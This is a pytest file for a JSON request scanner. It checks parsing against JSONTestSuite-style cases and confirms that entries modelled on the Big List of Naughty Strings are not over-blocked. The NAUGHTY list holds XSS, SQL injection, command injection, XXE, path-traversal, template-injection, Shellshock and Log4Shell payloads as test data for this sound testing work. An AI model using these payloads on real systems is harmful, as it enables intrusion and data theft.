"""What JSON's public suites are about, case by case: taken, refused, or marked.

After nst/JSONTestSuite (its y_, n_ and i_ families) and the Big List of Naughty Strings (its
headings); the cases are written here. `test_jsonbody` has more of the first.
"""

from __future__ import annotations

import json

import pytest

from m2m_trio.errors import InvalidJSONError, NestingTooDeepError
from m2m_trio.scan.scanner import Scanner

TAKEN = [  # y_
    *(b"[true]", b"[123]", b"[123e45]", b"[123.456789]", b"[1e-2]", b"[1e+2]", b"[-0.0]"),
    *(b'{"asd":"sdf"}', b'{"a":"b","c":{"d":[]}}', b"false", b'[ "asd"]', b'"\x7f"', b" [] "),
    b'{"title":"\\u041f\\u043e\\u043b" }',
    b'{"x":[{"id": "' + b"x" * 40 + b'"}], "id": "' + b"x" * 40 + b'"}',
    *(b'["\\u002c"]', b'["\\u0821"]', b'["\\u0123"]', b'["\\u005C"]', b'["\\u0022"]'),
    *(b'["\\u000A"]', b'["\\u00A0"]', b'["\\uA66D"]', b'["\\u0061\\u30af\\u30EA\\u30b9"]'),
    *(b'["\\uD834\\uDd1e"]', b'["\\uDBFF\\uDFFF"]', b'["\\ud83d\\ude39\\ud83d\\udc8d"]'),
    *(b'["\\uDBFF\\uDFFE"]', b'["\\uD83F\\uDFFE"]', b'["\\u200B"]', b'["\\u2064"]'),
    *(b'["\\uFDD0"]', b'["\\uFFFE"]', b'["\\\\a"]', b'["new\\u000Aline"]'),
    *(
        f'["{text}"]'.encode()
        for text in ("\u03c0", "\U0001bfff", "\uffff", "\u2342\u3234\u2342")
    ),
    *(f'["{text}"]'.encode() for text in ("\u20ac\U0001d11e", "a\x7fa", "\u2028", "\u2029")),
]

REFUSED = [  # n_
    *(b"[a\xe5]", b'["a",\n4\n,1,', b"[1,,]", b'["\x0ba"\\f]', b"[1,", b"[1,\n1\n,1", b"[{}"),
    *(b"[-]", b"[0E+]", b"[0.3e]", b"[0e]", b"[0e+]", b"[1.0e]", b"[1.0e+]", b"[0e+-1]"),
    *(b"[-123.123foo]", b"[123\xe5]", b"[1e1\xe5]", b"[0\xe5]", b"[-foo]", b"[- 1]", b"[-012]"),
    *(b"[-.123]", b"[-1x]", b"[1ea]", b"[1e\xe5]", b"[1.]", b"[.123]", "[\uff11]".encode()),
    *(
        b"[1.2a-3]",
        b"[1.8H-308]",
        b'["x", truth]',
        b'{[: "x"}\n',
        "{\U0001f1e8\U0001f1ed}".encode(),
    ),
    *(b'{"\xb9":"0",}', b"{null:null,null:null}", b'{"a":"b"}/**//', b'{"a":"b"}/'),
    *(b'{ "foo" : "bar", "a" }', b'{"a":"b"}#', b'["\\uD800\\u"]', b'["\\uD800\\u1"]'),
    *(b'["\\uD800\\u1x"]', "[\u00e9]".encode(), b'["\\\x00"]', b'["\\\\\\"]', b'["\\\t"]'),
    *(b'["\\"]', b'["\\u00A"]', b'["\\uD834\\uDd"]', b'["\\uD800\\uD800\\x"]', b'["\\u\xe5"]'),
    *(b'["\\uqqqq"]', b'["\\\xe5"]', b'[\\u0020"asd"]', b"[\\n]", b'"', b'["a\x00a"]'),
    *(b"[<null>]", b'["asd]', "a\u00e5".encode(), b"\xef\xbb{}", b"[", b"[\x00]", b"2@"),
    *(
        b'{"":',
        b'{"a":/*comment*/"b"}',
        b'{"a": true} "x"',
        b"['",
        b"[,",
        b"[{",
        b'["a',
        b'["a"',
    ),
    *(b"{", b"{]", b"{,", b"{[", b'{"a', b"{'a'", b'["\\{["\\{["\\{["\\{', b"\xe9", b"*"),
    *(b'{"a":"b"}#{}', b'[\\u000A""]', b"[ false, nul", b"[ true, fals", b"[ false, tru"),
    *(b'{"asd":"asd"', "\u00e5".encode(), b"\xef\xbb\xbf", b"[\x0c]", "[\u2060]".encode()),
]

LONE = [  # i_: half of a pair
    *(b'["\\uDADA"]', b'["\\uD888\\u1234"]', b'["\\uD800\\n"]', b'["\\uDd1ea"]'),
    *(b'["\\uD800\\uD800\\n"]', b'["\\ud800"]', b'["\\ud800abc"]', b'["\\uDd1e\\uD834"]'),
    b'["\\uDFAA"]',
]

OTHER_CODINGS = [  # i_
    *(b'["\xff"]', b'["\xe9"]', b'["\x81"]', b'["\xf4\xbf\xbf\xbf"]', b'["\xc0\xaf"]'),
    *(b'["\xfc\x83\xbf\xbf\xbf\xbf"]', b'["\xfc\x80\x80\x80\x80\x80"]', b'["\xe0\xff"]'),
    *(b'["\xed\xa0\x80"]', b"\xef\xbb\xbf{}", '["\u00e9"]'.encode("utf-16")),
    *('["\u00e9"]'.encode(coding) for coding in ("utf-16-le", "utf-16-be", "utf-32")),
]

ANY_NUMBER = [  # i_
    *(b"[123.456e-789]", b"[0.4e00669999999999999999999999]", b"[-1e+9999]", b"[1.5e+9999]"),
    *(b"[-123123e100000]", b"[123123e100000]", b"[123e-10000000]", b"[100000000000000000000]"),
    *(
        b"[-123123123123123123123123123123]",
        b"[-237462374673276894279832749832423479823246327846]",
    ),
]


def as_member(value: bytes) -> bytes:
    return b'{"model":"m","messages":[{"role":"user","content":"Hi"}],"extra":' + value + b"}"


@pytest.mark.parametrize("body", TAKEN + ANY_NUMBER)
def test_what_is_json_is_clean(scanner: Scanner, body: bytes) -> None:
    assert scanner.scan_body(body).score == 0.0
    assert scanner.scan_body(as_member(body)).score == 0.0


@pytest.mark.parametrize("body", REFUSED)
def test_what_is_none_is_refused(scanner: Scanner, body: bytes) -> None:
    with pytest.raises(InvalidJSONError):
        scanner.scan_body(body)


@pytest.mark.parametrize("body", REFUSED)
def test_nor_is_it_taken_inside_of_a_request(scanner: Scanner, body: bytes) -> None:
    with pytest.raises(InvalidJSONError):
        scanner.scan_body(as_member(body))


@pytest.mark.parametrize("body", OTHER_CODINGS)
def test_other_codings_are_refused_as_a_body(scanner: Scanner, body: bytes) -> None:
    with pytest.raises(InvalidJSONError):
        scanner.scan_body(body)


@pytest.mark.parametrize("body", LONE)
def test_half_a_pair_is_marked(scanner: Scanner, body: bytes) -> None:
    verdict = scanner.scan_body(as_member(body))
    assert "malformed.surrogate" in verdict.rules
    assert verdict.score == 0.85


@pytest.mark.parametrize("body", [b"[" * 500 + b"]" * 500, b"[" * 100_000, b'[{"":' * 50_000])
def test_what_is_nested_deep_is_refused(scanner: Scanner, body: bytes) -> None:
    with pytest.raises((NestingTooDeepError, InvalidJSONError)):
        scanner.scan_body(body)


NAUGHTY = {
    "reserved words": [
        "undefined",
        "null",
        "NaN",
        "None",
        "true",
        "\\",
        "hasOwnProperty",
        "then",
    ],
    "numbers": [
        "0",
        "-1.00",
        "1E02",
        "0x7fffffffffffffff",
        "1/0",
        "--1",
        "1,000,000.00",
        "-Infinity",
    ],
    "signs": [
        ",./;'[]\\-=",
        '<>?:"{}|_+',
        "!@#$%^&*()`~",
        "\x01\x02\x1e\x7f",
        "\x85\u00a0\u1680\u2000",
    ],
    "symbols": [
        "\u03a9\u2248\u00e7\u221a",
        "\u00e5\u00df\u2202\u0192",
        "\u0401\u0402\u0403",
        "\u0660\u0661\u0662",
    ],
    "subscripts": [
        "\u2070\u2074\u2075",
        "\u2080\u2081\u2082",
        "\u0e14\u0e49\u0e49\u0e49\u0e49\u0e47\u0e47\u0e47",
    ],
    "quotes": [
        "'",
        '"',
        "''",
        "\"'\"'\"''''\"",
        "\u201c\u2018\u2019\u201d",
        "<foo val=\u201cbar\u201d />",
    ],
    "two bytes": [
        "\u7530\u4e2d\u3055\u3093\u306b",
        "\u793e\u6703\u79d1\u5b78\u9662",
        "\uc6b8\ub780\ubc14\ud1a0\ub974",
    ],
    "changing length": ["\u023a\u023e", "\u1e9e", "\u0130"],
    "emoticons": [
        "\u30fd\u0f3c\u0e88\u0644\u035c\u0e88\u0f3d\uff89",
        "(\u256f\u00b0\u25a1\u00b0\uff09\u256f\ufe35 \u253b\u2501\u253b)",
    ],
    "emoji": [
        "\U0001f60d",
        "\U0001f469\U0001f3fd",
        "\U0001f468\u200d\U0001f469\u200d\U0001f466",
        "1\ufe0f\u20e3 2\ufe0f\u20e3",
    ],
    "regions": [
        "\U0001f1fa\U0001f1f8\U0001f1f7\U0001f1fa\U0001f1f8",
        "\U0001f1fa\U0001f1f8\U0001f1f7",
    ],
    "digits": ["\uff11\uff12\uff13", "\u0661\u0662\u0663"],
    "right to left": [
        "\u05d1\u05bc\u05b0\u05e8\u05b5\u05d0\u05e9\u05c1\u05b4\u05d9\u05ea",
        "\ufdfd",
        "\u202btest\u202b",
        "\u2066test\u2067",
    ],
    "ogham": [
        "\u169b\u169b\u1689\u1691\u1685\u1694\u1689\u1680\u1694\u168b\u1694\u1688\u1694\u169c",
    ],
    "zalgo": [
        "T\u033a\u033ao\u035e i\u0332nv\u035do\u0347ke t\u0353he h\u031fi\u0331ve",
        "\u030a\u0317" * 30,
    ],
    "upside down": [
        "\u02d9\u0250nb\u1d09l\u0250 \u0250u\u0183\u0250\u026f \u01dd\u0279olop \u0287\u01dd",
        "00\u02d9\u0196$-",
    ],
    "fonts": [
        "\uff34\uff48\uff45 quick",
        "\U0001d413\U0001d421\U0001d41e brown",
        "\u24af\u24a3\u24a0 fox",
        "\U0001d57f\U0001d58d\U0001d58a dog",
    ],
    "scripts": [
        "<script>alert(0)</script>",
        "&lt;script&gt;alert(1);&lt;/script&gt;",
        "<img src=x onerror=alert(2) />",
        '"><svg><script>123<1>alert(3)</script>',
        "javascript:alert(1);",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;>",
    ],
    "SQL": [
        "1;DROP TABLE users",
        "1'; DROP TABLE users-- 1",
        "' OR 1=1 -- 1",
        "' OR '1'='1",
        "%",
        "_",
    ],
    "server code": [
        "-",
        "--",
        "--version",
        "--help",
        "$USER",
        "/dev/null; touch /tmp/x.fail ; echo",
        "`touch /tmp/x.fail`",
        "$(touch /tmp/x.fail)",
        '@{[system "touch /tmp/x.fail"]}',
        "eval(\"puts 'hello world'\")",
        'System("ls -al /")',
    ],
    "XXE": [
        '<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd" >]><foo>&xxe;</foo>',
    ],
    "interpolation": [
        "$HOME",
        "$ENV{'HOME'}",
        "%d",
        "%s%s%s%s%s",
        "{0}",
        "%*.*s",
        "%@",
        "%n",
        "{{ 7 * 7 }}",
        "{% print 'x' * 64 * 1024**3 %}",
        "{{ ''.__class__.__mro__[2].__subclasses__() }}",
    ],
    "files": [
        "../../../../../../../../../../../etc/passwd%00",
        "../../../../../../etc/hosts",
        "File:///",
    ],
    "CVEs": [
        "() { 0; }; touch /tmp/shellshock.fail;",
        "<<< %s(un='%s') = %u",
        "+++ATH0",
        "${jndi:ldap://x.example/a}",
    ],
    "DOS names": ["CON", "PRN", "AUX", "CLOCK$", "NUL", "A:", "ZZ:", "COM1", "LPT1"],
    "IRC": ["DCC SEND STARTKEYLOGGER 0 0 0", "/quit"],
    "Scunthorpe": [
        "Scunthorpe General Hospital",
        "Penistone Community Church",
        "Lightwater Country Park",
        "http://www.cum.qc.ca/",
        "Arsenal canal",
        "Linda Callahan",
        "medieval erection of parapets",
        "magna cum laude",
    ],
    "humans": [
        "If you're reading this, wake up: you have been dreaming for twenty years.",
    ],
    "terminal": [
        "Roses are \x1b[0;31mred\x1b[0m, violets are \x1b[0;34mblue. Hope you enjoy it",
        "But now...\x1b[20Cfor my greatest trick...\x1b[8m",
        "The quic\b\b\b\b\b\bk brown fo\x07\x07\x07x... [Beeeep]",
    ],
    "crashes": [
        "Power\u0644\u064f\u0644\u064f\u0635\u0651\u0628\u064f \u0963 \u0963h \u0963",
        "\U0001f3f30\U0001f308\ufe0f",
        "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
    ],
    "Persian": [
        "\u06af\u0686\u067e\u0698\u06cc",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    ],
}
"""The headings of the list, each with strings of our own of that kind."""


@pytest.mark.parametrize("heading", NAUGHTY)
def test_naughty_strings_are_let_through(scanner: Scanner, heading: str) -> None:
    for text in NAUGHTY[heading]:
        assert scanner.scan_text(text).score < 0.8, text
        for ascii_only in (True, False):
            message = {"role": "user", "content": text}
            body = json.dumps({"model": "m", "messages": [message]}, ensure_ascii=ascii_only)
            verdict = scanner.scan_body(body.encode())
            assert not verdict.blocks(0.8), (text, verdict.rules)
    together = json.dumps({"messages": [{"role": "user", "content": NAUGHTY[heading]}]})
    assert not scanner.scan_body(together.encode()).blocks(0.8)


def test_naughty_strings_are_let_through_as_names(scanner: Scanner) -> None:
    for texts in NAUGHTY.values():
        body = json.dumps({"messages": [], **{text: text for text in texts}})
        assert not scanner.scan_body(body.encode()).blocks(0.8)
